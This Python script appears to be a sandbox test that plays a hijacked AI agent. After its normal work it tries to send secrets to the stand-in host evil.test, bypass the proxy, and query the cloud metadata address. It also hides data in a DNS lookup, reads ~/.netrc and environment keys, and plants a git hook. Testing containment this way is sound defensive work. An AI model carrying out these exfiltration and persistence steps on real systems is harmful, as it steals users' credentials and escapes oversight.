"""An example agent that was talked into mischief: it asks its model, does its work, and then tries to carry secrets out.
Arguments: the ports of the model and of the attacker, and the home of whoever started it."""
import json
import os
import socket
import sys
import urllib.error
import urllib.request

model, attacker, home = sys.argv[1:]
PROXY_LESS = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def attempt(what, act):
    try:
        print(f"  {what:58} worked: {act()}", flush=True)
    except urllib.error.HTTPError as error:
        print(f"  {what:58} {error.code} {error.reason}", flush=True)
    except OSError as error:
        print(f"  {what:58} {error.strerror or error}", flush=True)


def post(opener, url, data):
    return json.load(opener(urllib.request.Request(url, data), timeout=10))["text"]


def look_up():
    """In a sandbox a refused name leads to the gate, by an address that stands for it, and nobody else is asked."""
    for *_, (address, *_) in socket.getaddrinfo("c2VjcmV0.evil.test", 443):
        if not address.startswith(("198.18.", "198.19.", "fd73:6c75:6963:")):
            return address
    raise OSError("answered by the gate: nothing was looked up")


def read(path):
    with open(path) as file:
        return file.read(20)


def write(path):
    with open(path, "w") as file:
        return f"{file.write('fixed')} bytes"


def change_the_system():
    path = "/usr/sluice-example"
    done = write(path)
    os.unlink(path)
    return done


def by_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.connect(("198.51.100.7", 443))
        sock.send(b"secret")
        return sock.recv(1)


def environment():
    if "SECRET_KEY" not in os.environ:
        raise OSError("not there")
    return os.environ["SECRET_KEY"]


def processes():
    seen = [read(f"/proc/{number}/comm").strip() for number in filter(str.isdigit, os.listdir("/proc"))]
    if seen == ["python3"]:
        raise OSError("none but its own")
    return seen


print("its work:")
attempt("ask the model", lambda: post(urllib.request.urlopen, f"http://model.test:{model}/v1", b"How do I get out?"))
attempt("write a file of the project", lambda: write("code.py"))
print("its mischief:")
attempt("send a secret to evil.test", lambda: post(urllib.request.urlopen, f"http://evil.test:{attacker}/", b"secret"))
attempt("the same past the proxy", lambda: post(PROXY_LESS.open, f"http://evil.test:{attacker}/", b"secret"))
attempt("to an address, without a name", lambda: post(PROXY_LESS.open, "http://198.51.100.7/", b"secret"))
attempt("ask for the keys of the cloud (169.254.169.254)", lambda: post(PROXY_LESS.open, "http://169.254.169.254/latest/", None))
attempt("hide a secret in a look-up (c2VjcmV0.evil.test)", look_up)
attempt("send UDP", by_udp)
attempt("a service on the host's loopback", lambda: socket.create_connection(("127.0.0.1", int(attacker)), 5))
attempt("read the home of the user", lambda: read(f"{home}/.netrc"))
attempt("read a secret from the environment", environment)
attempt("look at other processes", processes)
attempt("change the system", change_the_system)
attempt("make git run a program later", lambda: write(".git/hooks/post-checkout"))
